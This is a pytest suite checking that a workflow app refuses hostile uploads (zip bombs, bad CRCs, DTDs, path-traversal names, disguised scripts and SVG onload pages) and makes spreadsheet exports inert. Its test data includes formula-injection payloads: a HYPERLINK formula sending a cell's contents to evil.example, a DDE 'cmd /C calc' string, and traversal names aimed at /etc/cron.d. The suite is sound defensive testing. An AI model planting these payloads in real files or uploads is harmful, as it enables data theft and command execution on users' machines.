"""Hostile files in, inert files out.

Uploads: every zip (a process import, an .xlsx workbook) is checked whole before anything
is unpacked or parsed (services/foundation/uploads.py), and whatever is wrong with it (a bad CRC, an
encrypted or OLE file, a compression method nobody knows, malformed XML, a zip bomb, a
sheet claiming A1:XFD1048576, a member named ../x) answers 4xx naming the problem and
changes nothing. Attachments that would run as script or render as a page are refused by
name, declared type, implied type and content. Exports: names in exported zips are
flat, and every workbook the product writes leaves through one door that makes formula
text inert (services/foundation/exports.py `workbook_bytes`). The hostile files are built here.
"""

from __future__ import annotations

import ast
import base64
import contextlib
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import joinedload

from app.extensions import db
from app.models import Attachment, FormFile, ProcessDefinition, Task
from app.services.administration.deployment import deploy_definition
from app.services.foundation import exports, uploads
from app.services.foundation.errors import BadRequest
from app.services.registry.campaigns import launch_campaign
from app.services.runtime.attachments import is_active_content
from app.services.runtime.instances import start_instance
from conftest import RequestPerContextClient
from factories import GOOD_TARGETS, approved_project

ROOT = Path(__file__).parents[2]
SRC = ROOT / "src" / "app"
FIXTURES = ROOT / "tests" / "fixtures"
SHEET = "xl/worksheets/sheet1.xml"
AREA = {"level1": "产出指标", "level2": "数量指标", "name": "维修校舍面积", "sign": "≥",
        "target": "3000", "unit": "平方米", "period": "年度"}  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def client(app):
    return RequestPerContextClient(app, app.response_class, use_cookies=True)


@pytest.fixture
def login(client):
    def sign_in(username: str) -> None:
        client.post("/logout")
        answer = client.post("/login", data={"username": username, "password": "demo"})
        assert answer.status_code == 302, answer.text

    return sign_in


# --- building hostile zips -------------------------------------------------------------


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {i.filename: archive.read(i) for i in archive.infolist()}


def patched(data: bytes, name: str, *, method=None, flags=None, crc_xor=0, size=None) -> bytes:
    """`data` with member `name`'s headers (local and central) rewritten as told."""
    out = bytearray(data)
    encoded = name.encode()
    spots = []  # (offset of the flags field, of the method field, of CRC, of the size)
    local = out.find(b"PK\x03\x04")
    while local != -1:
        length = int.from_bytes(out[local + 26 : local + 28], "little")
        if out[local + 30 : local + 30 + length] == encoded:
            spots.append((local + 6, local + 8, local + 14, local + 22))
        local = out.find(b"PK\x03\x04", local + 4)
    central = out.find(b"PK\x01\x02")
    while central != -1:
        length = int.from_bytes(out[central + 28 : central + 30], "little")
        if out[central + 46 : central + 46 + length] == encoded:
            spots.append((central + 8, central + 10, central + 16, central + 24))
        central = out.find(b"PK\x01\x02", central + 4)
    assert len(spots) == 2, "the member's local and central headers"
    for flag_at, method_at, crc_at, size_at in spots:
        if flags is not None:
            out[flag_at : flag_at + 2] = flags.to_bytes(2, "little")
        if method is not None:
            out[method_at : method_at + 2] = method.to_bytes(2, "little")
        out[crc_at] ^= crc_xor
        if size is not None:
            out[size_at : size_at + 4] = size.to_bytes(4, "little")
    return bytes(out)


def small_workbook(rows: int = 3) -> bytes:
    book = Workbook()
    book.active.title = "项目"
    for number in range(rows):
        book.active.append([number, f"项目{number}", number * 1.5])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_sheet_xml(data: bytes, transform) -> bytes:
    """The workbook with its first sheet's XML changed, zipped again correctly."""
    members = members_of(data)
    members[SHEET] = transform(members[SHEET])
    return zip_of(members)


def dimension(ref: str):
    return lambda xml: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), xml)


def append_row(number: int, cell: str = "A"):
    row = f'<row r="{number}"><c r="{cell}{number}" t="inlineStr"><is><t>x</t></is></c></row>'
    return lambda xml: xml.replace(b"</sheetData>", row.encode() + b"</sheetData>")


def append_cell(content: bytes):
    cell = b'<row r="9"><c r="A9" t="inlineStr"><is>' + content + b"</is></c></row>"
    return lambda xml: xml.replace(b"</sheetData>", cell + b"</sheetData>")


# What openpyxl would turn into 30,000 objects, each a few hundred bytes: cell formats
# in the styles, rich-text runs in one cell (KB zipped, seconds and MB to read).
STYLES_BOMB = (
    b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<cellXfs count="30000">' + b'<xf numFmtId="0" fontId="0"/>' * 30000 + b"</cellXfs>"
    b"</styleSheet>"
)
RICH_TEXT = b"<r><rPr><b/></rPr><t>a</t></r>" * 10000
LIMITS = uploads.WorkbookLimits(
    upload_bytes=5 << 20,
    zip=uploads.ZipLimits(members=50, member_bytes=2 << 20, total_bytes=2 << 20),
    rows=1000,
    columns=20,
)
BOMB = b"\0" * (8 << 20)  # 8 MB of zeros: about 8 KB deflated


def hostile_workbooks() -> list:
    """(id, file, what the refusal must say) for each way a workbook can be hostile."""
    good = small_workbook()
    return [
        ("not-a-zip", b"hello, not a workbook", "not an Excel workbook (.xlsx)"),
        ("zip-signature-then-junk", b"PK\x03\x04" + b"junk" * 50, "not a valid zip"),
        ("encrypted-ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), "encrypted"),
        ("bad-crc", patched(good, SHEET, crc_xor=0x5A), "fails its CRC-32 check"),
        ("encrypted-member", patched(good, SHEET, flags=0x1), "encrypted"),
        ("compression-99", patched(good, SHEET, method=99), "compression method 99"),
        ("bomb", zip_of({**members_of(good), "xl/media/bomb.bin": BOMB}), "unpacks to more"),
        ("size-lie", patched(good, SHEET, size=10), "fails its CRC-32 check"),
        ("malformed-xml", with_sheet_xml(good, lambda x: x[: len(x) // 2]), "is malformed"),
        ("claims-XFD1048576", with_sheet_xml(good, dimension("A1:XFD1048576")), "claims more"),
        ("holds-row-1048576", with_sheet_xml(good, append_row(1048576)), "holds more than 1000"),
        ("holds-column-XFD", with_sheet_xml(good, append_row(4, "XFD")), "holds more than 20"),
        ("no-parts", zip_of({"hello.txt": b"hi"}), "no [Content_Types].xml"),
        ("styles-bomb", zip_of({**members_of(good), "xl/styles.xml": STYLES_BOMB}), "style"),
        ("rich-text-runs", with_sheet_xml(good, append_cell(RICH_TEXT)), "rich-text"),
        ("dtd", with_sheet_xml(good, _with_dtd), "DTD"),
        ("climbing-name", zip_of({**members_of(good), "../evil.xml": b"<x/>"}), "holds “..”"),
        ("absolute-name", zip_of({**members_of(good), "/etc/evil.xml": b"<x/>"}), "absolute"),
        (
            "too-many-parts",
            zip_of({**members_of(good), **{f"p{i}.bin": b"" for i in range(60)}}),
            "more than 50 files",
        ),
    ]


def _with_dtd(xml: bytes) -> bytes:
    return b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaa">]>' + xml


# --- the workbook reader ---------------------------------------------------------------


@pytest.fixture
def openpyxl_never_called(monkeypatch):
    """Fails the test if the checks let a file through to openpyxl."""

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to read a file the checks should refuse")

    monkeypatch.setattr(uploads, "load_workbook", refuse)


HOSTILE_WORKBOOKS = hostile_workbooks()
GOOD_WORKBOOK = small_workbook()  # built once: the property tests need the same bytes


@pytest.mark.parametrize(("data", "says"), [c[1:] for c in HOSTILE_WORKBOOKS],
                         ids=[c[0] for c in HOSTILE_WORKBOOKS])  # fmt: skip
def test_a_hostile_workbook_is_refused_naming_the_problem_before_openpyxl_reads_it(
    openpyxl_never_called, data, says
):
    with pytest.raises(BadRequest) as refused:
        uploads.read_workbook(data, ["项目"], LIMITS)
    assert says in refused.value.message


def test_a_good_workbook_reads_as_rows_with_numbers_as_numbers():
    sheets = uploads.read_workbook(small_workbook(), ["项目", "没有"], LIMITS)
    assert list(sheets) == ["项目"]
    assert sheets["项目"] == [(1, (0, "项目0", 0)), (2, (1, "项目1", 1.5)), (3, (2, "项目2", 3))]


def test_a_sheet_within_the_bounds_is_read_whatever_its_dimension_says_within_them():
    """A dimension may overstate (a stale used range): it is refused only past the bound,
    and openpyxl is then told to read no further than the rows and cells that exist."""
    data = with_sheet_xml(small_workbook(), dimension("A1:T1000"))
    assert len(uploads.read_workbook(data, ["项目"], LIMITS)["项目"]) == 3


def within_bounds(sheets: dict) -> None:
    for rows in sheets.values():
        assert len(rows) <= LIMITS.rows
        assert all(len(values) <= LIMITS.columns for _, values in rows)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.data())
def test_any_corruption_of_a_workbook_is_read_or_refused_never_an_error(data):
    original = bytearray(GOOD_WORKBOOK)
    flips = data.draw(st.lists(st.integers(0, len(original) - 1), min_size=1, max_size=8))
    for position in flips:
        original[position] ^= data.draw(st.integers(1, 255))
    with contextlib.suppress(BadRequest):
        within_bounds(uploads.read_workbook(bytes(original), ["项目"], LIMITS))


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.data())
def test_any_change_to_a_sheets_xml_is_read_or_refused_never_an_error(data):
    """Correctly zipped, so only the XML is hostile: cut, spliced, or with odd references."""
    good = GOOD_WORKBOOK
    xml = members_of(good)[SHEET]
    start = data.draw(st.integers(0, len(xml)))
    end = data.draw(st.integers(start, len(xml)))
    insert = data.draw(
        st.sampled_from([b"", b"<", b'r="XFD1"', b'<row r="0">', b'<c r="A-1"/>', b"&lt;",
                         b'<c r="ZZZZ9"/>', b'<row r="99999999">', b"\xff\xfe", b"]]>"])
    )  # fmt: skip
    hostile = with_sheet_xml(good, lambda _: xml[:start] + insert + xml[end:])
    with contextlib.suppress(BadRequest):
        within_bounds(uploads.read_workbook(hostile, ["项目"], LIMITS))


# --- the batch upload page -------------------------------------------------------------


@pytest.fixture
def monitoring_round(app, user):
    """The shipped monitoring process and one round over a project of 县第一中学."""
    forms = {p.name: p.read_bytes() for p in sorted((ROOT / "forms").glob("*.json"))}
    path = ROOT / "processes" / "quarterly_monitoring.bpmn"
    deploy_definition(None, path.read_bytes(), path.name, {}, None, forms)
    approved_project("JY-2027-001", 2027, [AREA])
    launch_campaign(user("finance"), "quarterly_monitoring", 2027, 1)
    db.session.remove()


def ready_monitoring_tasks() -> list[tuple[int, str, dict]]:
    db.session.rollback()
    found = db.session.scalars(select(Task).where(Task.activity_id == "fill_monitoring_report"))
    return sorted((t.id, t.status, dict(t.data or {})) for t in found)


def upload(client, content: bytes):
    return client.post(
        "/batch/monitoring",
        data={"file": (io.BytesIO(content), "监控报告.xlsx")},
        content_type="multipart/form-data",
    )


def test_hostile_workbooks_on_the_batch_page_get_400_naming_the_problem_and_submit_nothing(
    client, login, monitoring_round, openpyxl_never_called
):
    login("unit")
    template = client.get("/batch/monitoring/template.xlsx").data
    before = ready_monitoring_tasks()
    assert [status for _, status, _ in before] == ["ready"]
    cases = {
        "校验和错误": patched(template, SHEET, crc_xor=1),
        "文件已加密或为旧版 Office 格式": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "不支持的压缩方式 99": patched(template, SHEET, method=99),
        "工作表声明的范围超过 20000 行": with_sheet_xml(template, dimension("A1:XFD1048576")),
        "XML 格式错误": with_sheet_xml(template, lambda x: x.replace(b"</row>", b"</rwo>", 1)),
        "解压后超过 10 MB": zip_of({**members_of(template), "xl/media/bomb.bin": bytes(11 << 20)}),
        "zip 中没有 [Content_Types].xml": zip_of({"readme.txt": b"hi"}),
    }
    for says, content in cases.items():
        answer = upload(client, content)
        assert answer.status_code == 400, says
        assert says in answer.text, says
    assert ready_monitoring_tasks() == before


def test_the_batch_template_round_trips_text_that_starts_like_a_formula(
    client, login, monitoring_round
):
    """The template is an export like any other (formula text neutralised), and what the
    clerk sends back arrives as typed, without the quote the export added."""
    login("unit")
    book = load_workbook(io.BytesIO(client.get("/batch/monitoring/template.xlsx").data))
    entered = {
        "项目": {"截至本季度末支出数（万元）": 30, "是否达到阶段性目标（是/否）": "是",
                 # as the export writes text a clerk typed as "=1+1 按计划推进":
                 "进度分析": exports.neutralised("=1+1 按计划推进")},
        "指标": {"截至本季度末实际完成值": "800", "预计全年完成值": "3000",
                 "完成可能性": "确定能", "拟采取的措施": exports.neutralised("-无")},
    }  # fmt: skip
    for title, values in entered.items():
        headers = [c.value for c in book[title][1]]
        for header, value in values.items():
            book[title].cell(row=2, column=headers.index(header) + 1, value=value)
    out = io.BytesIO()
    book.save(out)
    answer = upload(client, out.getvalue())
    assert answer.status_code == 200, answer.text
    db.session.rollback()
    done = db.session.scalars(select(Task).where(Task.activity_id == "fill_monitoring_report"))
    data = next(iter(done)).data
    assert data["progress_analysis"] == "=1+1 按计划推进"
    assert data["indicators"][0]["measures"] == "-无"


# --- zip imports -----------------------------------------------------------------------


def process_zip(**extra: bytes) -> bytes:
    members = {
        "simple_approval.bpmn": (FIXTURES / "processes" / "simple_approval.bpmn").read_bytes(),
        **{p.name: p.read_bytes() for p in (FIXTURES / "forms").glob("*.json")},
    }
    return zip_of({**members, **extra})


def definitions() -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(ProcessDefinition))


def import_files(client, *files: tuple[str, bytes]):
    return client.post(
        "/admin/import",
        data={"files": [(io.BytesIO(content), name) for name, content in files]},
        content_type="multipart/form-data",
    )


def test_a_good_process_zip_imports(client, login):
    login("admin")
    before = definitions()
    answer = import_files(client, ("p.zip", process_zip()))
    assert answer.status_code == 302, answer.text
    assert definitions() == before + 1


@pytest.mark.parametrize(
    ("build", "says"),
    [
        (lambda: patched(process_zip(), "simple_approval.bpmn", crc_xor=0x10), "校验和错误"),
        (lambda: patched(process_zip(), "simple_approval.bpmn", flags=0x1), "已加密"),
        (lambda: patched(process_zip(), "simple_approval.bpmn", method=99), "不支持的压缩方式 99"),
        (lambda: zip_of({"simple_approval.bpmn": b"<definitions><process"}), "XML 格式错误"),
        (lambda: process_zip(**{"../../x.json": b"{}"}), "含“..”"),
        (lambda: process_zip(**{"/etc/cron.d/x.json": b"{}"}), "是绝对路径"),
        (lambda: process_zip(**{"C:\\x.json": b"{}"}), "是绝对路径"),
        (lambda: process_zip(**{"x\r\n.json": b"{}"}), "含控制字符"),
        (lambda: process_zip(**{"bomb.bin": bytes(6 << 20)}), "解压后超过 5 MB"),
        (lambda: process_zip(**{f"f{i}.txt": b"" for i in range(501)}), "zip 中的文件超过 500 个"),
        (lambda: b"PK\x03\x04" + b"\0" * 64, "not a zip"),
    ],
    ids=["bad-crc", "encrypted", "method-99", "malformed-bpmn", "dot-dot", "absolute",
         "drive", "control", "member-bomb", "too-many", "not-a-zip"],
)  # fmt: skip
def test_a_broken_or_hostile_process_zip_gets_400_naming_the_problem_and_deploys_nothing(
    client, login, build, says
):
    login("admin")
    before = definitions()
    answer = import_files(client, ("p.zip", build()))
    assert answer.status_code == 400
    assert says in answer.text
    assert definitions() == before


def test_the_zip_limits_hold_over_the_whole_request_not_each_zip(app, client, login):
    """Six zips unpacking to 4 MB each are each within the limits; together they are
    24 MB, over the 20 MB a request may unpack, and refused."""
    login("admin")
    before = definitions()
    parts = [(f"part{i}.zip", zip_of({f"pad{i}.bin": bytes(4 << 20)})) for i in range(6)]
    answer = import_files(client, ("p.zip", process_zip()), *parts)
    assert answer.status_code == 400
    assert "合计超过 20 MB" in answer.text
    assert definitions() == before


# --- attachments -----------------------------------------------------------------------

JAVASCRIPT_TYPES = [
    "application/javascript",
    "application/ecmascript",
    "application/x-javascript",
    "application/x-ecmascript",
    "text/javascript",
    "text/ecmascript",
    "text/javascript1.0",
    "text/javascript1.5",
    "text/jscript",
    "text/livescript",
    "text/x-javascript",
    "text/x-ecmascript",
    "Text/JavaScript; charset=utf-8",
    "text/javascript;goal=module",
    " application/javascript ",
    "application/node",
]
PAGE_TYPES = ["text/html", "application/xhtml+xml", "image/svg+xml", "application/xslt+xml"]


def data_url(name: str, content: bytes, content_type: str) -> str:
    return f"data:{content_type};name={name};base64," + base64.b64encode(content).decode()


@pytest.mark.parametrize(
    ("name", "content_type", "content"),
    [("notes.txt", t, b"alert(1)") for t in JAVASCRIPT_TYPES + PAGE_TYPES]
    + [
        ("app.mjs", "image/png", b"export default 1"),
        ("app.cjs", "application/octet-stream", b"module.exports = 1"),
        ("app.js", "image/png", b"\x89PNG alert(1)"),
        ("page.xhtml", "image/png", b"\x89PNG"),
        ("pic.svgz", "image/png", b"\x1f\x8b"),
        ("pic.png", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'),
        ("pic.png", "image/png", b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>'),
        ("a.pdf", "application/pdf", b"  \n<!DOCTYPE html><p>hi"),
        ("a.txt", "text/plain", b"\xef\xbb\xbf<script>alert(1)</script>"),
        ("a.txt", "text/plain", "<html><body>".encode("utf-16")),
        ("tool.js::$DATA", "text/plain", b"alert(1)"),
        ("readme.pdf", "application/pdf", b"\xca\xfe\xba\xbe java class"),
    ],
)
def test_every_javascript_alias_page_and_disguised_script_is_refused_and_nothing_stored(
    client, user, name, content_type, content
):
    _, ready = start_instance(user("unit"), "simple_approval", title="附件")
    token = client.post("/api/v1/auth/token", json={"username": "unit", "password": "demo"})
    headers = {"Authorization": f"Bearer {token.get_json()['token']}"}
    data = {**GOOD_TARGETS, "attachment": data_url(name, content, content_type)}
    answer = client.post(f"/api/v1/tasks/{ready[0].id}/complete", headers=headers,
                         json={"data": data})  # fmt: skip
    assert answer.status_code == 422
    assert "不接受可执行文件或网页文件" in answer.get_json()["details"][0]["message"]
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0
    assert db.session.get(Task, ready[0].id).status == "ready"


@pytest.mark.parametrize(
    ("name", "content_type", "content"),
    [
        ("预算.pdf", "application/pdf", b"%PDF-1.7\n"),
        ("照片.png", "image/png", b"\x89PNG\r\n\x1a\n"),
        ("照片.jpg", "image/jpeg", b"\xff\xd8\xff\xe0"),
        ("表.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK"),
        ("说明.docx", "application/octet-stream", b"PK\x03\x04"),
        ("说明.txt", "text/plain", "项目说明：按计划推进".encode()),
        ("数据.csv", "text/csv", b"a,b\n1,2\n"),
        ("数据.json", "application/json", b'{"a": 1}'),
        ("比较 < 大于.txt", "text/plain", b"1 < 2 and 3 > 2"),
    ],
)
def test_ordinary_office_files_are_still_accepted(name, content_type, content):
    assert not is_active_content(name, content_type, content)


# --- exports ---------------------------------------------------------------------------

HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+1+1", "-1+1", "\t=1+1", "\r=1+1"]  # fmt: skip


def all_text_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def assert_inert(content: bytes) -> list[str]:
    texts = all_text_cells(content)
    live = [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert live == [], f"formula text left live: {live}"
    book = load_workbook(io.BytesIO(content))
    formulas = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
    return texts


def test_the_registry_export_neutralises_formula_text_and_keeps_numbers(client, login, app):
    for number, text in enumerate(HOSTILE_TEXTS):
        approved_project(f"JY-2027-{number:03d}", 2027, [AREA], name=text, approved_amount=-3.5)
    login("finance")
    answer = client.get("/projects/export.xlsx")
    assert answer.status_code == 200
    texts = assert_inert(answer.data)
    for text in HOSTILE_TEXTS:
        assert "'" + text in texts
    sheet = load_workbook(io.BytesIO(answer.data)).active
    amounts = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert amounts == [-3.5] * len(HOSTILE_TEXTS), "a negative number stays a number"


def test_the_tracking_export_neutralises_titles_in_every_cell(client, login, user):
    titles = HOSTILE_TEXTS[:4]  # (titles with control characters are refused at start)
    for text in titles:
        start_instance(user("unit"), "simple_approval", title=text)
    login("finance")
    answer = client.get("/tracking?export=xlsx")
    assert answer.status_code == 200
    texts = assert_inert(answer.data)
    for text in titles:
        assert "'" + text in texts


def test_the_batch_template_neutralises_every_sheet(client, login, monitoring_round):
    tasks = db.session.scalars(
        select(Task)
        .where(Task.activity_id == "fill_monitoring_report")
        .options(joinedload(Task.instance))
    )
    for task in tasks:
        hostile = {"project_name": "=cmd|' /C calc'!A0", "progress_analysis": "@x"}
        task.instance.data = {**(task.instance.data or {}), **hostile}
        if task.data is not None:
            task.data = {**task.data, **hostile}
    db.session.commit()
    login("unit")
    texts = assert_inert(client.get("/batch/monitoring/template.xlsx").data)
    assert "'=cmd|' /C calc'!A0" in texts and "'@x" in texts


@settings(max_examples=300, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(st.text())
def test_any_text_leaves_as_text_and_comes_back_as_written(text):
    cell = exports.neutralised(text)
    assert not cell.startswith(FORMULA_STARTS)
    legal = exports.ILLEGAL_CHARACTERS_RE.sub("", text)
    assert exports.restored(cell) == legal


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, 1.5e9])
def test_numbers_pass_through_the_export_door_as_numbers(value):
    book = exports.new_workbook()
    book.active.append([value, "-1", "=1+1"])
    row = next(load_workbook(io.BytesIO(exports.workbook_bytes(book))).active.iter_rows())
    assert [c.value for c in row] == [value, "'-1", "'=1+1"]
    assert row[0].data_type == "n"


def _calls(path: Path) -> set[str]:
    """What a module imports from openpyxl, and which of `.save(`, `.writestr(` and
    `ZipFile(..., "w")` it calls."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found |= {alias.name for alias in node.names}
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "attr", None) or getattr(node.func, "id", None)
        if name in ("save", "writestr"):
            found.add(name)
        modes = [a.value for a in node.args[1:2] if isinstance(a, ast.Constant)]
        modes += [k.value.value for k in node.keywords
                  if k.arg == "mode" and isinstance(k.value, ast.Constant)]  # fmt: skip
        if name == "ZipFile" and any(m in ("w", "a", "x") for m in modes):
            found.add("writestr")
    return found


def test_only_the_export_door_writes_workbooks_and_only_uploads_reads_them():
    """So a new export cannot forget the neutralising, nor a new import the bounds."""
    writers, readers, zips = [], [], []
    for path in sorted(SRC.rglob("*.py")):
        used = _calls(path)
        where = str(path.relative_to(SRC))
        if {"Workbook", "save"} & used and "openpyxl" in path.read_text(encoding="utf-8"):
            writers.append(where)
        if "load_workbook" in used:
            readers.append(where)
        if "writestr" in used:
            zips.append(where)
    assert writers == ["services/foundation/exports.py"]
    assert readers == ["services/foundation/uploads.py"]
    assert zips == ["services/administration/transfer.py"], (
        "every zip the product writes has flat names"
    )


def test_names_in_an_exported_process_zip_are_flat(user):
    from app.services.administration import transfer

    # Names as an older version (or a direct database edit) may have stored them: the
    # deployment lint refuses such names today, the export must not trust that.
    definition = db.session.scalars(select(ProcessDefinition)).first()
    definition.filename = "../../\x1b[31mevil\r\n.bpmn"
    definition.decision_files = {"/etc/cron.d/x.dmn": "<definitions/>"}
    forms = db.session.scalars(
        select(FormFile).where(FormFile.definition_id == definition.id).order_by(FormFile.id)
    )
    for number, form in enumerate(forms):
        form.filename = f"C:\\..\\{number}\\..\\.form{number}.json"
    db.session.commit()
    _, content = transfer.export_version(user("admin"), definition.key, definition.version)
    names = zipfile.ZipFile(io.BytesIO(content)).namelist()
    for name in names:
        folder, _, base = name.rpartition("/")
        assert folder in ("", "forms", "decisions"), name
        assert base and not base.startswith(".") and ".." not in name, name
        assert not any(ord(ch) < 32 for ch in name), name
    assert "[31mevil.bpmn" in names and "decisions/x.dmn" in names
    assert "forms/form0.json" in names
